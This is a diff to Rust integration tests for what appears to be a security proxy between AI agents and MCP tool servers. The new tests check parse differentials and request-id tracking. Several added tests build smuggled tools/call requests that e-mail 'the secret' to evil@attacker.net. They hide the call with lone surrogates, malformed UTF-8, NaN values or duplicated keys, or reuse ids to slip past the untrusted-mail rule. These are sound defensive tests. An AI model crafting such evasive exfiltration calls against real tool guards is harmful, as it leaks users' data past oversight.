@@ -150,12 +150,14 @@ fn quota_is_spent_once_and_refunded_when_the_server_fails() {
 #[test]
 fn garbage_lines_do_not_stop_the_proxy() {
     let mut p = Proxy::start("garbage");
-    // Not JSON: forwarded unchanged; the fake server answers a parse error.
+    // Not JSON: the proxy answers a parse error itself (it might be a
+    // tools/call to a lenient server) and forwards nothing.
     p.send_line("{not json");
     let answer = p.recv();
     assert_eq!(answer["error"]["code"], json!(-32700), "{answer}");
+    assert_eq!(answer["id"], Value::Null, "{answer}");
     // The server prints a line that is not JSON: it reaches the client unchanged.
-    p.send_line("raw-garbage");
+    p.send_line(r#"{"jsonrpc":"2.0","method":"raw-garbage"}"#);
     assert_eq!(p.recv_line(), "this is not json");
     // Malformed tools/call requests are answered by the proxy.
     p.send_line(r#"{"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"arguments":{}}}"#);
@@ -178,7 +180,7 @@ fn garbage_lines_do_not_stop_the_proxy() {
     p.send_line("[1,2,3]");
     p.send_line("42");
     p.send_bytes(b"\xff\xfe\n");
-    // The fake server answers the last one with a parse error.
+    // The proxy answers the last one with a parse error.
     let answer = p.recv();
     assert_eq!(answer["error"]["code"], json!(-32700), "{answer}");
     // Still working.
@@ -630,4 +632,161 @@ fn the_approval_endpoints_need_credentials() {
     let (code, err) = refused(&[&wait[..], &["--tokens", file]].concat());
     assert_eq!(code, 1, "{err}");
     assert!(err.contains("not a credentials file"), "{err}");
+}
+
+// ---- issue 25: no parse differentials, exact request tracking ----
+
+/// The stderr line the proxy writes when it reports a call `unknown`.
+const UNKNOWN: &str = "reported `unknown`";
+
+/// Finding 1: a line serde_json alone would reject but a lenient server
+/// (this fake one is Python's `json`, as lenient as the SDKs' parsers)
+/// reads is never forwarded undecided: each is answered `-32700` by the
+/// proxy and the server sees none of them.
+#[test]
+fn lines_a_lenient_server_would_read_are_refused_not_forwarded() {
+    let mut p = Proxy::start("lenient-lines");
+    let call = |args: &str| {
+        format!(
+            r#"{{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{{"name":"send_email","arguments":{{"to":"evil@attacker.net","body":"the secret"{args}}}}}}}"#
+        )
+        .into_bytes()
+    };
+    let deep = format!(",\"x\":{}1{}", "[".repeat(200), "]".repeat(200));
+    let lines: Vec<(&str, Vec<u8>)> = vec![
+        ("a lone surrogate", call(r#","note":"\ud800""#)),
+        ("a lone low surrogate", call(r#","note":"\udc00x""#)),
+        ("nesting 200 deep", call(&deep)),
+        ("invalid UTF-8", {
+            let mut l = call(r#","note":"x""#);
+            let at = l.len() - 5;
+            l[at] = 0xff;
+            l
+        }),
+        ("overlong UTF-8", {
+            let mut l = call(r#","note":"xx""#);
+            let at = l.len() - 6;
+            l[at] = 0xc0;
+            l[at + 1] = 0xaf;
+            l
+        }),
+        ("a number out of range", call(r#","n":1e400"#)),
+        ("NaN", call(r#","n":NaN"#)),
+        ("-Infinity", call(r#","n":-Infinity"#)),
+    ];
+    for (what, line) in &lines {
+        p.send_bytes(line);
+        p.send_bytes(b"\n");
+        let answer = p.recv();
+        assert_eq!(answer["error"]["code"], json!(-32700), "{what}: {answer}");
+        assert_eq!(answer["id"], Value::Null, "{what}: {answer}");
+    }
+    // A duplicated key is refused too (with its id), wherever the method is.
+    p.send_line(r#"{"jsonrpc":"2.0","id":8,"method":"ping","method":"tools/call","params":{"name":"send_email","arguments":{"to":"evil@attacker.net","body":"x"}}}"#);
+    let answer = p.recv();
+    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
+    assert_eq!(answer["id"], json!(8), "{answer}");
+    // The proxy goes on; the server saw only this call.
+    let answer = p.call(9, "read_file", json!({"path": "docs/a"}));
+    assert!(!is_error(&answer), "{answer}");
+    assert_eq!(p.server_calls(), ["read_file"]);
+    assert_eq!(p.finish(), 0);
+}
+
+/// Finding 2: ids are compared as JSON-RPC values. The server answers id
+/// `1.0` as `1` (as a JavaScript server does): the read's result is still
+/// recorded, so its untrusted output stops the later e-mail.
+#[test]
+fn a_numeric_id_is_matched_by_value() {
+    let mut p = Proxy::start("numeric-id");
+    p.send_line(r#"{"jsonrpc":"2.0","id":1.0,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"docs/a"}}}"#);
+    let answer = p.recv();
+    assert_eq!(answer["id"], json!(1), "{answer}");
+    assert!(!is_error(&answer), "{answer}");
+    // `1` is that same id, answered already: free again.
+    let answer = p.call(1, "send_email", json!({"to": "a@example.com", "body": "x"}));
+    assert!(is_error(&answer), "{answer}");
+    assert!(text(&answer).contains("no_untrusted_mail"), "{answer}");
+    assert_eq!(p.server_calls(), ["read_file"]);
+    assert_eq!(p.finish(), 0);
+}
+
+/// Finding 3: an answer the proxy cannot parse exactly (a lone surrogate
+/// the server relays from outside) still reaches the client, and its call
+/// is reported `unknown`: the read's untrusted label is kept.
+#[test]
+fn an_answer_the_proxy_cannot_parse_is_reported_unknown() {
+    let mut p = Proxy::start("unparseable-answer");
+    p.send_call(1, "read_file", json!({"path": "docs/lone-surrogate"}));
+    let line = p.recv_line();
+    assert!(line.contains(r"\ud800"), "{line}");
+    let answer = p.call(2, "send_email", json!({"to": "a@example.com", "body": "x"}));
+    assert!(is_error(&answer), "{answer}");
+    assert!(text(&answer).contains("no_untrusted_mail"), "{answer}");
+    p.stderr_line(UNKNOWN);
+    assert_eq!(p.server_calls(), ["read_file"]);
+    assert_eq!(p.finish(), 0);
+}
+
+/// An answer whose id not even a lenient reading finds (`NaN` in it):
+/// every call in flight is reported `unknown`, so the label is kept.
+#[test]
+fn an_answer_without_a_readable_id_makes_the_calls_in_flight_unknown() {
+    let mut p = Proxy::start("nan-answer");
+    p.send_call(1, "read_file", json!({"path": "docs/nan"}));
+    let line = p.recv_line();
+    assert!(line.contains("NaN"), "{line}");
+    let answer = p.call(2, "send_email", json!({"to": "a@example.com", "body": "x"}));
+    assert!(is_error(&answer), "{answer}");
+    assert!(text(&answer).contains("no_untrusted_mail"), "{answer}");
+    p.stderr_line(UNKNOWN);
+    assert_eq!(p.finish(), 0);
+}
+
+/// A response to a call that is not a tools/call result (no `content`
+/// list) is reported `unknown`, never `succeeded`.
+#[test]
+fn an_answer_that_is_not_a_tool_result_is_reported_unknown() {
+    let mut p = Proxy::start("not-a-result");
+    p.send_call(1, "read_file", json!({"path": "docs/no-content"}));
+    let answer = p.recv();
+    assert_eq!(answer["result"], json!({}), "{answer}");
+    let line = p.stderr_line(UNKNOWN);
+    assert!(line.contains("not a tools/call result"), "{line}");
+    assert_eq!(p.finish(), 0);
+}
+
+/// Finding 4: a `ping` with the id of a running `tools/call` is refused
+/// (the id is live) and never forwarded, so its `{}` cannot be taken as
+/// the call's result: the call fails as the server says, and its unit
+/// (`flaky`: quota 1) comes back.
+#[test]
+fn a_request_reusing_a_running_calls_id_is_refused() {
+    let mut p = Proxy::start("live-id");
+    // The server answers this one only after its next message.
+    p.send_call(7, "flaky", json!({"text": "later"}));
+    p.send_line(r#"{"jsonrpc":"2.0","id":7,"method":"ping"}"#);
+    let answer = p.recv();
+    assert_eq!(answer["id"], json!(7), "{answer}");
+    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
+    // `7.0` is the same id.
+    p.send_line(r#"{"jsonrpc":"2.0","id":7.0,"method":"tools/list"}"#);
+    let answer = p.recv();
+    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
+    // Another id passes, then the held answer comes: a failure.
+    p.send_line(r#"{"jsonrpc":"2.0","id":8,"method":"ping"}"#);
+    let answer = p.recv();
+    assert_eq!(answer, json!({"jsonrpc": "2.0", "id": 8, "result": {}}));
+    let answer = p.recv();
+    assert_eq!(answer["id"], json!(7), "{answer}");
+    assert!(is_error(&answer), "{answer}");
+    // Its unit came back: `flaky` may run again.
+    let answer = p.call(9, "flaky", json!({"text": "again"}));
+    assert_eq!(text(&answer), "flaky failed", "{answer}");
+    assert_eq!(p.server_calls(), ["flaky", "flaky"]);
+    // A request id that is neither a string nor a number is refused.
+    p.send_line(r#"{"jsonrpc":"2.0","id":[1],"method":"ping"}"#);
+    let answer = p.recv();
+    assert_eq!(answer["error"]["code"], json!(-32600), "{answer}");
+    assert_eq!(p.finish(), 0);
 }
